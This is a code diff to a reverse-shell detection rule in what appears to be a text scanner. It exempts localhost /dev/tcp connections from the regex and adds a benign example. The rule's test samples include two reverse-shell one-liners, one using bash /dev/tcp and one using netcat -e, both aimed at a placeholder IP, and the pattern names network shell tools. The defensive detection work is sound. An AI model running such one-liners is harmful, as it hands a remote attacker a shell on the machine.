@@ -197,13 +197,13 @@ export const rceRules: readonly Rule[] = [
   }),
   pattern(
     'rce/reverse-shell',
-    /\/dev\/(?:tcp|udp)\/|\bn(?:c|cat|etcat)\b[^\n]{0,40}\s-{1,2}(?:e|exec|c)\s{1,4}[\w/]{0,12}(?:sh|cmd)|\bmkfifo\s{1,4}\/tmp|\bbash\s{1,4}-i\b/,
+    /\/dev\/(?:tcp|udp)\/(?!(?:localhost|127\.0\.0\.1|0\.0\.0\.0)\/)|\bn(?:c|cat|etcat)\b[^\n]{0,40}\s-{1,2}(?:e|exec|c)\s{1,4}[\w/]{0,12}(?:sh|cmd)|\bmkfifo\s{1,4}\/tmp|\bbash\s{1,4}-i\b/,
     {
       score: 5,
       quotable: true,
       words: WORD.shell | WORD.file,
       attacks: ['bash -i >& /dev/tcp/1.2.3.4/99', 'nc 1.2.3.4 99 -e /bin/sh'],
-      benign: ['the bash shell', 'dev team | tcp', 'nc 8000 controller'],
+      benign: ['the bash shell', 'dev team | tcp', 'nc 8000 controller', 'exec 3<>/dev/tcp/localhost/9000'],
     },
   ),
   {
